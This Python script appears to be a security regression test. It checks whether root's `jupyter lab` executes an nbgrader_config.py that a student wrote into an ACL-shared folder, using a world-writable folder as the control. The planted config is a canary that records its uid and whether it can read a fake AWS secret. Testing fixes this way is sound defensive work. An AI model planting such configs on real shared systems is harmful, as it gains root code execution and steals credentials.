"""a08: a02's ACL-shared folder (root's, 0750, ACL user:65534:rwx: mode shows 0770) as the folder the TA (root,
canaries) starts `jupyter lab` in (the course's venv, as round 44's a15 did in /tmp). The student wrote
nbgrader_config.py there; nbgrader's server extensions read the server folder's nbgrader_config.py as they load.
Control: the same in a 0777 folder (round 44's fix: refused)."""
import os, struct, subprocess, json, shutil, time, signal

BASE = "/tmp/attack45-root-a08"
shutil.rmtree(BASE, ignore_errors=True)
os.makedirs(BASE); os.chmod(BASE, 0o755)
ENV = dict(os.environ, DATABASE_URL="postgresql://ta:secret@localhost/x", AWS_SECRET_ACCESS_KEY="AKIASECRETCANARY123")
MARKS = f"{BASE}/marks"; os.mkdir(MARKS); os.chmod(MARKS, 0o777)
CONFIG = '''import os, json
open("%s/ran-" + str(os.getpid()), "w").write(json.dumps({"uid": os.getuid(), "canary": os.environ.get("AWS_SECRET_ACCESS_KEY") == "AKIASECRETCANARY123"}))
''' % MARKS

def acl(entries):
    out = struct.pack("<I", 2)
    for tag, perm, ident in entries:
        out += struct.pack("<HHI", tag, perm, ident)
    return out

def as_student(fn):
    pid = os.fork()
    if pid == 0:
        os.setgroups([]); os.setgid(65534); os.setuid(65534); fn(); os._exit(0)
    os.waitpid(pid, 0)

for case in ("acl_0750_user65534_rwx", "world_0777_control"):
    folder = f"{BASE}/{case}"; os.mkdir(folder)
    if case.startswith("acl"):
        os.chmod(folder, 0o750)
        os.setxattr(folder, "system.posix_acl_access", acl([(1, 7, 0xFFFFFFFF), (2, 7, 65534), (4, 5, 0xFFFFFFFF), (0x10, 7, 0xFFFFFFFF), (0x20, 0, 0xFFFFFFFF)]))
    else:
        os.chmod(folder, 0o777)
    as_student(lambda: open(f"{folder}/nbgrader_config.py", "w").write(CONFIG))
    for f in os.listdir(MARKS): os.unlink(os.path.join(MARKS, f))
    log = open(f"{BASE}/{case}.log", "w")
    p = subprocess.Popen(["CLONE/.venv/bin/jupyter", "lab", "--allow-root", "--no-browser", "--port", "8899",
                          "--ServerApp.token=x"], cwd=folder, env=ENV, stdout=log, stderr=subprocess.STDOUT, start_new_session=True)
    t0 = time.time()
    while time.time() - t0 < 40 and not os.listdir(MARKS) and p.poll() is None:
        time.sleep(0.5)
    time.sleep(2)
    alive = p.poll() is None
    try:
        os.killpg(p.pid, signal.SIGTERM)
        p.wait(10)
    except ProcessLookupError:
        pass
    except subprocess.TimeoutExpired:
        os.killpg(p.pid, signal.SIGKILL); p.wait()
    p.wait()
    ran = [json.load(open(os.path.join(MARKS, f))) for f in os.listdir(MARKS)]
    tail = open(f"{BASE}/{case}.log").read()
    print(f"{case}: mode {oct(os.stat(folder).st_mode & 0o777)} server alive after start: {alive}; student's config ran {len(ran)}x: {ran[:1]}")
    print("   log mentions refusal:", "not running in" in tail)
shutil.rmtree(BASE)
